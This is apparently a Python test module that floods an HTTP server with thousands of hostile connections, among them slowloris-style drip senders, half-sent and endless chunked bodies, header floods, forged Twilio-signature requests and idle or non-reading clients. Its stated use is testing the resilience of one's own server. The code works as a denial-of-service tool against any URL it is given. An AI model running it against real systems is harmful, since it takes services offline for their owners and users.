"""Connections that attack a server: half-sent, slow, chunked, idle, mute, header floods, readers that do not read.

Every attacker keeps its number of connections open for as long as the attack lasts: where the server closes one, the
next is opened. `python -m tests.attacks.flood --help` attacks a server of your own.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import resource
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

VICTIM = "/twilio/turn/1"
FORGED = "X-Twilio-Signature: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n"
PAUSE = 1.0
"""Seconds between the drops of a slow sender."""

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass
class Target:
    """A server under attack; `signature` is a header line, empty for unsigned requests."""

    host: str
    port: int
    signature: str = FORGED
    closed: int = 0
    refused: int = 0
    under_way: set[asyncio.Task[None]] = field(default_factory=set)

    def head(self, *lines: str, method: str = "POST", path: str = VICTIM) -> bytes:
        """Return the head of a request; it ends with an empty line if the last of `lines` is empty."""
        first = f"{method} {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n{self.signature}"
        return (first + "\r\n".join(lines) + "\r\n").encode()


async def half_sent(target: Target, connection: Connection) -> None:
    """Promise a body, send half of it, and wait."""
    await send(connection, target.head("Content-Length: 400", "") + b"CallSid=CA" + b"5" * 190)
    await until_closed(connection)


async def slow(target: Target, connection: Connection) -> None:
    """Send a body byte by byte."""
    await send(connection, target.head("Content-Length: 400", ""))
    while True:
        await send(connection, b"a")
        await asyncio.sleep(PAUSE)


async def chunked(target: Target, connection: Connection) -> None:
    """Send a body without an end in small chunks."""
    await send(connection, target.head("Transfer-Encoding: chunked", ""))
    while True:
        await send(connection, b"4\r\na=b&\r\n")
        await asyncio.sleep(PAUSE)


async def slow_head(target: Target, connection: Connection) -> None:
    """Send one line of the head after another."""
    await send(connection, target.head())
    while True:
        await send(connection, b"X-More: a\r\n")
        await asyncio.sleep(PAUSE)


async def head_flood(target: Target, connection: Connection) -> None:
    """Send headers until the server has had enough."""
    await send(connection, target.head())
    while True:
        await send(connection, b"X-More: " + b"a" * 1000 + b"\r\n")


async def forged(target: Target, connection: Connection) -> None:
    """Send whole requests whose signature is wrong or missing, ten a second."""
    body = b"CallSid=CA" + b"5" * 32
    while True:
        await send(connection, target.head(f"Content-Length: {len(body)}", "") + body)
        await connection[0].readuntil(b"\r\n\r\n")
        await asyncio.sleep(PAUSE / 10)


async def idle(target: Target, connection: Connection) -> None:
    """Ask once and keep the connection."""
    await send(connection, target.head("", method="GET", path="/health/live"))
    await until_closed(connection)


async def mute(target: Target, connection: Connection) -> None:
    """Say nothing."""
    await until_closed(connection)


async def deaf(target: Target, connection: Connection) -> None:
    """Ask again and again, and read no answer."""
    while True:
        await send(connection, target.head("", method="GET", path="/metrics") * 10)
        await asyncio.sleep(PAUSE / 10)


HALF_SENT = (half_sent, slow, chunked)
IDLE = (idle, mute, slow_head)
LOUD = (head_flood, forged, deaf)


async def send(connection: Connection, data: bytes) -> None:
    """Send, and wait until the kernel has taken it. Raises OSError when the server has closed the connection."""
    if connection[0].at_eof() or connection[1].is_closing():
        raise ConnectionResetError
    connection[1].write(data)
    await connection[1].drain()


async def until_closed(connection: Connection) -> None:
    """Read until the server closes the connection."""
    while await connection[0].read(65_536):
        pass


async def keep_up(target: Target, attack: Callable[[Target, Connection], object]) -> None:
    """Attack with one connection after the other."""
    while True:
        try:
            connection = await asyncio.open_connection(target.host, target.port, limit=4096)
        except OSError:
            target.refused += 1
            await asyncio.sleep(PAUSE / 2)
            continue
        try:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                await attack(target, connection)
            target.closed += 1
        finally:
            connection[1].transport.abort()
        await asyncio.sleep(PAUSE / 20)


@contextlib.asynccontextmanager
async def attacked(target: Target, half: int, idle_ones: int, loud: int) -> AsyncIterator[None]:
    """Attack while the block runs, with so many connections of each sort."""
    for number, attacks in ((half, HALF_SENT), (idle_ones, IDLE), (loud, LOUD)):
        for each in range(number):
            task = asyncio.create_task(keep_up(target, attacks[each % len(attacks)]))
            target.under_way.add(task)
            if each % 50 == 49:
                await asyncio.sleep(0.02)
    try:
        yield
    finally:
        for task in target.under_way:
            task.cancel()
        await asyncio.gather(*target.under_way, return_exceptions=True)


def allow_many_files() -> None:
    """Let this process open as many files as the system permits."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


async def attack_for(target: Target, arguments: argparse.Namespace) -> None:
    """Attack, and print one line when all connections are started and one at the end."""
    async with attacked(target, arguments.half_sent, arguments.idle, arguments.loud):
        print("under attack", flush=True)
        await asyncio.sleep(arguments.seconds)
        print(f"{target.closed} connections closed, {target.refused} refused", flush=True)


def main() -> None:
    """Attack a server on this machine."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.flood", description=__doc__)
    parser.add_argument("url", help="a server that is yours")
    parser.add_argument("--half-sent", type=int, default=500, help="bodies that never end")
    parser.add_argument("--idle", type=int, default=4000, help="idle and mute connections, and slow heads")
    parser.add_argument("--loud", type=int, default=30, help="floods of headers, of forged requests, and deaf readers")
    parser.add_argument("--seconds", type=float, default=120)
    parser.add_argument("--unsigned", action="store_true", help="without a signature header")
    arguments = parser.parse_args()
    allow_many_files()
    parts = urlsplit(arguments.url)
    signature = "" if arguments.unsigned else FORGED
    target = Target(parts.hostname or "127.0.0.1", parts.port or 80, signature)
    asyncio.run(attack_for(target, arguments))


if __name__ == "__main__":
    main()
